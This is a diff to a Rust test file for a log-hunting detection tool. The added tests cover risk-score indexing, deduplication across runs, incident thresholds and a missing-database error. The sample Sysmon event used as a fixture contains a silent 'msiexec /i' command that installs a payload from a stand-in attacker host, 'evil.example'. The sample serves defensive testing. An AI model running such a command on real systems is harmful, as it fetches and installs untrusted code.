@@ -75,6 +75,8 @@ fn samples_give_one_notable_and_two_risk_events_per_result() {
     }
     let sysmon = g.iter().find(|(n, _)| n["orig_vendor_product"] == "Microsoft Sysmon").expect("a Sysmon result");
     assert_eq!(s(sysmon.0, "orig_process_name"), "msiexec.exe");
+    // The samples give one user more than 100 risk: an incident, named on stderr, not in stdout.
+    assert!(stderr(&o).contains("vigil: incident: Risk Threshold Exceeded For Object Over 24 Hour Period"), "{}", stderr(&o));
 }
 
 const SYSMON_EVENT: &str = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2026-10-02T08:00:01.0000000Z'/><EventRecordID>4242</EventRecordID><Correlation/><Execution ProcessID='3376' ThreadID='4340'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>FINANCE-LT-07</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2026-10-02 08:00:01.000</Data><Data Name='ProcessGuid'>{1b43529b-0001-6a7f-cb04-000000006300}</Data><Data Name='ProcessId'>812</Data><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>msiexec.exe /q /i http://evil.example/payload.msi</Data><Data Name='CurrentDirectory'>C:\\Users\\bob\\</Data><Data Name='User'>CORP\\bob</Data><Data Name='LogonGuid'>{1b43529b-244e-6a7f-e703-000000000000}</Data><Data Name='LogonId'>0x3e7</Data><Data Name='TerminalSessionId'>2</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>SHA256=CE219763B73D8B4FE41517B70CAE7421F28CACA149C6637D3312290357D81508</Data><Data Name='ParentProcessGuid'>{1b43529b-0002-6a7f-ca04-000000006300}</Data><Data Name='ParentProcessId'>5640</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>C:\\Windows\\explorer.exe</Data><Data Name='ParentUser'>CORP\\bob</Data></EventData></Event>\n";
@@ -114,4 +116,50 @@ fn table_and_csv_alert_output() {
     let o = vigil(&["hunt", "--alerts", "--no-risk-db", &path]);
     let out = stdout(&o);
     assert!(out.contains("== notables (1 result) ==") && out.contains("== risk events (2 results) =="), "{out}");
+}
+
+#[test]
+fn risk_index_dedups_runs_and_risk_lists_objects() {
+    let dir = sysmon_dir();
+    let path = dir.path().join("logs");
+    std::fs::create_dir(&path).expect("mkdir");
+    std::fs::write(path.join("sysmon.log"), SYSMON_EVENT).expect("write sample");
+    let logs = path.to_string_lossy().into_owned();
+    let db = dir.path().join("idx").join("risk.db");
+    let db = db.to_string_lossy().into_owned();
+    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--risk-db", &db, &logs]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(stderr(&o).contains("3 new, 0 already recorded"), "{}", stderr(&o));
+    let o = vigil(&["hunt", "--alerts", "--format", "jsonl", "--risk-db", &db, &logs]);
+    assert!(stderr(&o).contains("0 new, 3 already recorded"), "{}", stderr(&o));
+    assert_eq!(alerts(&stdout(&o)).len(), 3, "a re-run still reports its alerts");
+
+    let o = vigil(&["risk", "--risk-db", &db, "--since", "-1h", "--format", "jsonl"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows = alerts(&stdout(&o));
+    assert_eq!(rows.len(), 2, "{}", stdout(&o));
+    let user = rows.iter().find(|r| r["risk_object_type"] == "user").expect("user object");
+    assert_eq!(user["risk_object"], "corp\\bob");
+    assert_eq!(user["total_score"], 35, "not doubled by the second run");
+    assert_eq!(user["count"], 1);
+    assert_eq!(user["tactics"], serde_json::json!(["defense-evasion"]));
+    // A range before the runs is empty; a lower threshold raises an incident per object.
+    let o = vigil(&["risk", "--risk-db", &db, "--until", "-2h", "--format", "csv"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(stdout(&o).trim().is_empty(), "{}", stdout(&o));
+    let o = vigil(&["risk", "--risk-db", &db, "--risk-threshold", "30"]);
+    let out = stdout(&o);
+    assert!(out.contains("== incidents (2 results) ==") && out.contains("Risk Threshold Exceeded For Object Over 24 Hour Period"), "{out}");
+    assert!(stderr(&o).contains("(2 new)"), "{}", stderr(&o));
+    let o = vigil(&["risk", "--risk-db", &db, "--risk-threshold", "30"]);
+    assert!(stderr(&o).contains("2 incident(s) (0 new)"), "{}", stderr(&o));
+}
+
+#[test]
+fn risk_without_index_is_an_error() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let db = dir.path().join("none.db").to_string_lossy().into_owned();
+    let o = vigil(&["risk", "--risk-db", &db]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("no such file"), "{}", stderr(&o));
 }
